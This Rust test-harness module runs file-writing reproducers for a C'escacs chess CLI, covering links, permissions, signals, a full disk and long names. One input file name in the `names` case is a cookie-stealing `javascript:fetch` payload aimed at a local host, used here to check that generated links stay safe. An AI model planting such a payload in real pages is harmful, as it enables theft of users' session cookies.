//! The file-writing reproducers of issue 38 for `cargo xtask hostile`, run with the release CLI
//! at full size in a scratch folder: file names that would be a `javascript:` link, outputs
//! that are inputs (the same path, a symbolic link, a hard link), inputs of one name, outputs
//! over files already there, in-place rewrites through links, of a file owned by another user,
//! of a read-only file, runs ended by INT, TERM and HUP during a 50 MB rewrite and a long
//! `html --split`, a full disk (a tmpfs, when run as root), and a name too long for a file
//! system. Each row says what the safe result is and whether the CLI gave it; the promises are
//! docs/RELIABILITY.md's "Writing files" (and `crates/ctl-cli/tests/writes.rs` tests each one
//! under `cargo test`, at small sizes).

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

/// One reproducer: what it does, and its run (a note on success, what went wrong on failure).
type Case = (&'static str, fn(&Path, &Path) -> Result<String, String>);

/// The reproducers, in the order.
const CASES: [Case; 10] = [
    ("1: `html --split` of files named `javascript:…`, `a#b`, `100%41`, `what?`", names),
    (
        "2: `html` onto its input (`-o` it, `g.html` holding CTL-PGN, links to it, `--force`)",
        own_input,
    ),
    ("3: `html --split` of `a/x.ctl-pgn` (2 games) and `b/x.ctl-pgn` (3 games)", one_name),
    (
        "4: `filter -o`/`convert -o` of two `x.ctl-pgn`, over files, links and a hard link of an input",
        filter_outputs,
    ),
    (
        "5: `fmt`/`check --fix` through a link, of a hard-linked 0640 file of 1234:5678, of a 0444 file",
        in_place,
    ),
    ("8: INT, TERM, HUP during `fmt` of 50 MB and `html --split` of 2,000 games", signals),
    (
        "8: a full disk (2 MB tmpfs) under `html --split`, `filter --split`, `filter -o --force`",
        full_disk,
    ),
    ("9: `check --fix` of a read-only file", fix_refused),
    ("10: a 247-byte input name in `html --split`, `html`, `filter --split`", long_name),
    ("*: the folder left clean: no `.cescacs-*.tmp` anywhere", |_, dir| clean(dir)),
];

/// Runs every reproducer with the CLI `cli` in the folder `dir` (emptied first); the table of
/// the report, and whether all gave the safe result.
pub fn run(cli: &Path, dir: &Path) -> (String, bool) {
    let _ = fs::remove_dir_all(dir);
    let mut out =
        "| file-writing reproducer (issue 38) | safe result | time |\n|---|---|---|\n".to_string();
    let mut all = true;
    for (i, (name, case)) in CASES.iter().enumerate() {
        let scratch = dir.join(format!("case-{i}"));
        let started = Instant::now();
        let result = fs::create_dir_all(&scratch)
            .map_err(|e| e.to_string())
            .and_then(|()| if i + 1 == CASES.len() { case(cli, dir) } else { case(cli, &scratch) });
        let seconds = started.elapsed().as_secs_f64();
        let shown = match result {
            Ok(note) => {
                format!("yes{}", if note.is_empty() { String::new() } else { format!(": {note}") })
            }
            Err(e) => {
                all = false;
                format!("**no**: {}", e.replace('\n', " "))
            }
        };
        out.push_str(&format!("| {name} | {shown} | {seconds:.2} s |\n"));
    }
    (out, all)
}

fn cescacs(cli: &Path, args: &[&dyn AsRef<std::ffi::OsStr>]) -> Result<Output, String> {
    Command::new(cli)
        .args(args.iter().map(|a| a.as_ref()))
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .output()
        .map_err(|e| format!("cannot run the CLI: {e}"))
}

/// That `o` ended with `status`.
fn status(o: &Output, status: i32, what: &str) -> Result<(), String> {
    if o.status.code() == Some(status) {
        return Ok(());
    }
    Err(format!(
        "{what}: status {:?}, not {status}: {}",
        o.status.code(),
        String::from_utf8_lossy(&o.stderr)
    ))
}

fn ensure(holds: bool, what: impl FnOnce() -> String) -> Result<(), String> {
    if holds { Ok(()) } else { Err(what()) }
}

fn write(path: &Path, text: impl AsRef<[u8]>) -> Result<(), String> {
    if let Some(dir) = path.parent() {
        fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    }
    fs::write(path, text).map_err(|e| format!("{}: {e}", path.display()))
}

fn read(path: &Path) -> Result<Vec<u8>, String> {
    fs::read(path).map_err(|e| format!("{}: {e}", path.display()))
}

/// `n` games of `white`.
fn games(white: &str, n: usize) -> String {
    (1..=n)
        .map(|i| format!("[Variant \"C'escacs\"]\n[White \"{white} {i}\"]\n\n1. E7-E13 :\n*\n"))
        .collect::<Vec<_>>()
        .join("\n")
}

/// The links of an index page, each checked to be relative, with no scheme, and to a file of
/// `dir`: the files.
fn linked(dir: &Path) -> Result<Vec<PathBuf>, String> {
    let index = String::from_utf8_lossy(&read(&dir.join("index.html"))?).into_owned();
    let mut files = Vec::new();
    for href in index.split("href=\"").skip(1).filter_map(|h| h.split('"').next()) {
        let path = href.split('#').next().unwrap_or_default();
        let name = path.strip_prefix("./").ok_or_else(|| format!("a link not relative: {href}"))?;
        ensure(!name.contains(':') && !name.contains('?'), || {
            format!("a link with a scheme or a query: {href}")
        })?;
        let mut bytes = Vec::new();
        let raw = name.as_bytes();
        let mut i = 0;
        while i < raw.len() {
            let escaped = (raw[i] == b'%')
                .then(|| raw.get(i + 1..i + 3))
                .flatten()
                .and_then(|h| u8::from_str_radix(std::str::from_utf8(h).ok()?, 16).ok());
            match escaped {
                Some(b) => (bytes.push(b), i += 3),
                None => (bytes.push(raw[i]), i += 1),
            };
        }
        let file = dir.join(String::from_utf8_lossy(&bytes).into_owned());
        ensure(file.is_file(), || format!("a dead link: {href}"))?;
        files.push(file);
    }
    Ok(files)
}

fn names(cli: &Path, dir: &Path) -> Result<String, String> {
    let inputs = dir.join("in");
    let hostile = [
        "javascript:fetch('http:'+String.fromCharCode(47,47)+'127.0.0.1:8765'+String.fromCharCode(47)+'x?'+document.cookie)<!--.ctl-pgn",
        "a#b.ctl-pgn",
        "100%41.ctl-pgn",
        "what?.ctl-pgn",
    ];
    for (i, name) in hostile.iter().enumerate() {
        write(&inputs.join(name), games(&format!("P{i}"), 2))?;
    }
    let out = dir.join("out");
    status(&cescacs(cli, &[&"html", &"--split", &"-o", &out, &inputs])?, 0, "html --split")?;
    let files = linked(&out)?;
    ensure(files.len() == 8, || format!("{} links, not 8", files.len()))?;
    Ok("8 links, each `./` and percent-encoded, to a page that exists".to_string())
}

fn own_input(cli: &Path, dir: &Path) -> Result<String, String> {
    let text = games("A", 2);
    let g = dir.join("g.ctl-pgn");
    let page = dir.join("g.html");
    write(&g, &text)?;
    for force in [false, true] {
        let html = |args: &[&dyn AsRef<std::ffi::OsStr>]| {
            let mut all: Vec<&dyn AsRef<std::ffi::OsStr>> = vec![&"html"];
            if force {
                all.push(&"--force");
            }
            all.extend(args);
            cescacs(cli, &all)
        };
        status(&html(&[&g, &"-o", &g])?, 2, "-o the input")?;
        symlink("g.ctl-pgn", &page).map_err(|e| e.to_string())?;
        status(&html(&[&g])?, 2, "a link to the input at the page's name")?;
        fs::remove_file(&page).map_err(|e| e.to_string())?;
        fs::hard_link(&g, &page).map_err(|e| e.to_string())?;
        status(&html(&[&g])?, 2, "a hard link of the input at the page's name")?;
        fs::remove_file(&page).map_err(|e| e.to_string())?;
        write(&page, &text)?;
        status(&html(&[&page])?, 2, "`g.html` holding CTL-PGN")?;
        ensure(read(&page)? == text.as_bytes(), || "`g.html` was replaced".to_string())?;
        fs::remove_file(&page).map_err(|e| e.to_string())?;
        ensure(read(&g)? == text.as_bytes(), || "the input was replaced".to_string())?;
    }
    Ok("status 2, the input intact, in all 8 runs".to_string())
}

fn one_name(cli: &Path, dir: &Path) -> Result<String, String> {
    write(&dir.join("a/x.ctl-pgn"), games("Anna", 2))?;
    write(&dir.join("b/x.ctl-pgn"), games("Berta", 3))?;
    let out = dir.join("out");
    let o = cescacs(
        cli,
        &[&"html", &"--split", &"-o", &out, &dir.join("a/x.ctl-pgn"), &dir.join("b/x.ctl-pgn")],
    )?;
    status(&o, 0, "html --split")?;
    let mut files = linked(&out)?;
    files.sort();
    files.dedup();
    let pages = fs::read_dir(&out).map_err(|e| e.to_string())?.count() - 1;
    ensure(files.len() == 5 && pages == 5, || format!("{pages} pages, {} linked", files.len()))?;
    Ok("5 pages, each linked once".to_string())
}

fn filter_outputs(cli: &Path, dir: &Path) -> Result<String, String> {
    let (d1, d2) = (dir.join("d1/x.ctl-pgn"), dir.join("d2/x.ctl-pgn"));
    write(&d1, games("Anna", 1))?;
    write(&d2, games("Berta", 1))?;
    for command in ["filter", "convert"] {
        let how: &dyn AsRef<std::ffi::OsStr> =
            if command == "filter" { &"--whole" } else { &"--letters=fan" };
        let out = dir.join(format!("out-{command}"));
        status(&cescacs(cli, &[&command, how, &"-o", &out, &d1, &d2])?, 0, "two x.ctl-pgn")?;
        let both = String::from_utf8_lossy(&read(&out.join("x.ctl-pgn"))?).into_owned()
            + &String::from_utf8_lossy(&read(&out.join("x-2.ctl-pgn"))?);
        ensure(both.contains("Anna") && both.contains("Berta"), || "a game lost".to_string())?;
        write(&out.join("x.ctl-pgn"), "mine")?;
        status(&cescacs(cli, &[&command, how, &"-o", &out, &d1, &d2])?, 2, "over files there")?;
        ensure(read(&out.join("x.ctl-pgn"))? == b"mine", || "a file there replaced".to_string())?;
        let outside = dir.join(format!("outside-{command}"));
        fs::remove_file(out.join("x.ctl-pgn")).map_err(|e| e.to_string())?;
        symlink(&outside, out.join("x.ctl-pgn")).map_err(|e| e.to_string())?;
        status(
            &cescacs(cli, &[&command, how, &"--force", &"-o", &out, &d1, &d2])?,
            0,
            "--force over a dangling link",
        )?;
        ensure(!outside.exists(), || "written through a dangling link".to_string())?;
        fs::remove_file(out.join("x-2.ctl-pgn")).map_err(|e| e.to_string())?;
        fs::hard_link(&d2, out.join("x-2.ctl-pgn")).map_err(|e| e.to_string())?;
        let before = read(&d2)?;
        status(
            &cescacs(cli, &[&command, how, &"--force", &"-o", &out, &d1, &d2])?,
            2,
            "a hard link of an input",
        )?;
        ensure(read(&d2)? == before, || "the input was replaced".to_string())?;
    }
    Ok("both inputs' games kept; files there, a dangling link and an input's hard link never written through".to_string())
}

/// Whether this run is root (may chown and mount).
fn root(dir: &Path) -> bool {
    let probe = dir.join(".probe");
    let is_root =
        fs::write(&probe, "").and_then(|()| fs::metadata(&probe)).is_ok_and(|m| m.uid() == 0);
    let _ = fs::remove_file(probe);
    is_root
}

fn in_place(cli: &Path, dir: &Path) -> Result<String, String> {
    let root = root(dir);
    let messy = "[Variant \"C'escacs\"]\n[PDTL \"/14:3k3/12:3N3/8:3r3/4:2R2/1:1K/ w -- - 0 1\"]\n1. RF4xRF8\n";
    let fmt_messy = messy.replace("RF4xRF8", "RF4×RF8  :  *");
    for (command, text) in [(&["fmt"][..], fmt_messy.as_str()), (&["check", "--fix"], messy)] {
        let real = dir.join(format!("{}.ctl-pgn", command[0]));
        let (link, hard) =
            (dir.join(format!("{}-link", command[0])), dir.join(format!("{}-hard", command[0])));
        write(&real, text)?;
        fs::set_permissions(&real, fs::Permissions::from_mode(0o640)).map_err(|e| e.to_string())?;
        if root {
            std::os::unix::fs::chown(&real, Some(1234), Some(5678)).map_err(|e| e.to_string())?;
        }
        symlink(&real, &link).map_err(|e| e.to_string())?;
        fs::hard_link(&real, &hard).map_err(|e| e.to_string())?;
        let inode = fs::metadata(&real).map_err(|e| e.to_string())?.ino();
        let mut args: Vec<&dyn AsRef<std::ffi::OsStr>> = command.iter().map(|a| a as _).collect();
        args.push(&link);
        let o = cescacs(cli, &args)?;
        ensure(o.status.code().is_some_and(|c| c < 2), || {
            format!("{command:?}: {}", String::from_utf8_lossy(&o.stderr))
        })?;
        let meta = fs::metadata(&real).map_err(|e| e.to_string())?;
        let new = read(&real)?;
        ensure(new != text.as_bytes() && read(&hard)? == new, || {
            format!("{command:?}: not rewritten through both links")
        })?;
        ensure(fs::symlink_metadata(&link).is_ok_and(|m| m.file_type().is_symlink()), || {
            "the link replaced".to_string()
        })?;
        ensure((meta.ino(), meta.nlink(), meta.mode() & 0o7777) == (inode, 2, 0o640), || {
            format!("{command:?}: inode, links or mode changed")
        })?;
        ensure(!root || (meta.uid(), meta.gid()) == (1234, 5678), || {
            format!("{command:?}: owner {}:{}", meta.uid(), meta.gid())
        })?;
        write(&real, text)?;
        fs::set_permissions(&real, fs::Permissions::from_mode(0o444)).map_err(|e| e.to_string())?;
        status(&cescacs(cli, &args)?, 2, "a read-only file")?;
        ensure(read(&real)? == text.as_bytes(), || "a read-only file rewritten".to_string())?;
    }
    Ok(if root {
        "owner 1234:5678, mode 0640, inode and links kept; 0444 refused"
    } else {
        "mode, inode and links kept; 0444 refused (not root: owner not tried)"
    }
    .to_string())
}

/// The toolkit's temporary files anywhere below `dir`.
fn temporary_files(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if entry.file_type().is_ok_and(|t| t.is_dir()) {
            found.extend(temporary_files(&path));
        } else if entry.file_name().to_string_lossy().starts_with(".cescacs-") {
            found.push(path);
        }
    }
    found
}

fn clean(dir: &Path) -> Result<String, String> {
    let left = temporary_files(dir);
    ensure(left.is_empty(), || format!("left: {left:?}"))?;
    Ok(String::new())
}

/// Runs `cescacs ARGS` and sends it `signal` (`INT`, `TERM`, `HUP`) once `ready` holds: its
/// status.
fn interrupt(
    cli: &Path,
    args: &[&dyn AsRef<std::ffi::OsStr>],
    signal: &str,
    ready: impl Fn() -> bool,
) -> Result<Option<i32>, String> {
    let mut child = Command::new(cli)
        .args(args.iter().map(|a| a.as_ref()))
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .map_err(|e| e.to_string())?;
    let started = Instant::now();
    loop {
        if child.try_wait().map_err(|e| e.to_string())?.is_some()
            || started.elapsed() > Duration::from_secs(300)
        {
            let _ = child.kill();
            return Err(format!("the run ended before `{signal}` could be sent"));
        }
        if ready() {
            Command::new("kill")
                .arg(format!("-{signal}"))
                .arg(child.id().to_string())
                .status()
                .map_err(|e| e.to_string())?;
            break;
        }
    }
    Ok(child.wait().map_err(|e| e.to_string())?.code())
}

fn signals(cli: &Path, dir: &Path) -> Result<String, String> {
    let comment = "word ".repeat(200_000);
    let long: String = (0..50)
        .map(|i| {
            format!("[Variant \"C'escacs\"]\n[White \"W{i}\"]\n\n1. E7-E13 :  {{{comment}}}\n*\n")
        })
        .collect::<Vec<_>>()
        .join("\n");
    let many: String = (0..2_000)
        .map(|i| cescacs_gen::generate_game(38, i, 40).text)
        .collect::<Vec<_>>()
        .join("\n");
    let (file, input) = (dir.join("long.ctl-pgn"), dir.join("many.ctl-pgn"));
    write(&input, &many)?;
    write(&file, &long)?;
    let whole = cescacs(cli, &[&"fmt", &"--stdout", &file])?.stdout;
    for (signal, number) in [("INT", 2), ("TERM", 15), ("HUP", 1)] {
        write(&file, &long)?;
        let status = interrupt(cli, &[&"fmt", &file], signal, || !temporary_files(dir).is_empty())?;
        ensure(status == Some(128 + number), || format!("fmt {signal}: status {status:?}"))?;
        let now = read(&file)?;
        ensure(now == long.as_bytes() || now == whole, || {
            "fmt: the file neither as it was nor whole".to_string()
        })?;
        let out = dir.join(format!("pages-{signal}"));
        let first = out.join("many-0001.html");
        let status =
            interrupt(cli, &[&"html", &"--split", &"-o", &out, &input], signal, || first.exists())?;
        ensure(status == Some(128 + number), || {
            format!("html --split {signal}: status {status:?}")
        })?;
        clean(dir)?;
    }
    Ok("status 128 + the signal, no temporary file left, each time".to_string())
}

/// A 2 MB tmpfs at `dir`, unmounted when dropped: only for root.
struct Tmpfs(PathBuf);

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

fn full_disk(cli: &Path, dir: &Path) -> Result<String, String> {
    let disk = dir.join("disk");
    fs::create_dir_all(&disk).map_err(|e| e.to_string())?;
    let mounted = root(dir)
        && Command::new("mount")
            .args(["-t", "tmpfs", "-o", "size=2m", "tmpfs"])
            .arg(&disk)
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
    if !mounted {
        return Ok("skipped: no tmpfs can be mounted (root needed)".to_string());
    }
    let disk = Tmpfs(disk);
    let many = dir.join("many.ctl-pgn");
    write(
        &many,
        (0..3_000)
            .map(|i| cescacs_gen::generate_game(38, i, 20).text)
            .collect::<Vec<_>>()
            .join("\n"),
    )?;
    let pages = disk.0.join("pages");
    status(&cescacs(cli, &[&"html", &"--split", &"-o", &pages, &many])?, 2, "html --split")?;
    for entry in fs::read_dir(&pages).map_err(|e| e.to_string())?.flatten() {
        let page = read(&entry.path())?;
        ensure(page.ends_with(b"</html>\n"), || {
            format!("{} is truncated", entry.path().display())
        })?;
    }
    fs::remove_dir_all(&pages).map_err(|e| e.to_string())?;
    let split = disk.0.join("split");
    status(
        &cescacs(cli, &[&"filter", &"--whole", &"--split", &"-o", &split, &many])?,
        2,
        "filter --split",
    )?;
    for entry in fs::read_dir(&split).map_err(|e| e.to_string())?.flatten() {
        let game = read(&entry.path())?;
        ensure(game.starts_with(b"[Variant") && game.ends_with(b"*\n"), || {
            format!("{} is truncated", entry.path().display())
        })?;
    }
    fs::remove_dir_all(&split).map_err(|e| e.to_string())?;
    let out = disk.0.join("out");
    let small = dir.join("small/many.ctl-pgn");
    write(&small, games("Anna", 1))?;
    status(&cescacs(cli, &[&"filter", &"-o", &out, &small])?, 0, "filter -o")?;
    let good = read(&out.join("many.ctl-pgn"))?;
    fill(&disk.0, 16 << 10)?;
    status(&cescacs(cli, &[&"filter", &"--force", &"-o", &out, &many])?, 2, "filter -o --force")?;
    ensure(read(&out.join("many.ctl-pgn"))? == good, || {
        "the earlier output was replaced".to_string()
    })?;
    clean(&disk.0)?;
    Ok("every page and game file whole, the earlier output kept, status 2".to_string())
}

/// Fills the file system of `dir` but for `room` bytes.
fn fill(dir: &Path, room: u64) -> Result<(), String> {
    use std::io::Write;
    let mut filler = fs::File::create(dir.join("filler")).map_err(|e| e.to_string())?;
    let chunk = vec![b'x'; 4096];
    while filler.write_all(&chunk).is_ok() {}
    let len = filler.metadata().map_err(|e| e.to_string())?.len();
    filler.set_len(len.saturating_sub(room)).map_err(|e| e.to_string())
}

fn fix_refused(cli: &Path, dir: &Path) -> Result<String, String> {
    let file = dir.join("f.ctl-pgn");
    let text = "[Variant \"C'escacs\"]\n[PDTL \"/14:3k3/12:3N3/8:3r3/4:2R2/1:1K/ w -- - 0 1\"]\n1. RF4xRF8\n";
    write(&file, text)?;
    fs::set_permissions(&file, fs::Permissions::from_mode(0o444)).map_err(|e| e.to_string())?;
    let o = cescacs(cli, &[&"check", &"--fix", &file])?;
    status(&o, 2, "check --fix")?;
    let said = String::from_utf8_lossy(&o.stderr);
    ensure(said.contains("read-only") && said.contains("fixed 0 problems in 0 files"), || {
        said.to_string()
    })?;
    Ok("status 2, \"read-only\", \"fixed 0 problems in 0 files\"".to_string())
}

fn long_name(cli: &Path, dir: &Path) -> Result<String, String> {
    let file = dir.join(format!("{}.ctl-pgn", "n".repeat(239)));
    write(&file, games("Anna", 2))?;
    status(
        &cescacs(cli, &[&"html", &"--split", &"-o", &dir.join("pages"), &file])?,
        0,
        "html --split",
    )?;
    status(
        &cescacs(cli, &[&"html", &"-o", &format!("{}/", dir.join("page").display()), &file])?,
        0,
        "html",
    )?;
    status(
        &cescacs(cli, &[&"filter", &"--split", &"-o", &dir.join("split"), &file])?,
        0,
        "filter --split",
    )?;
    Ok("names shortened to 80 bytes before the number".to_string())
}
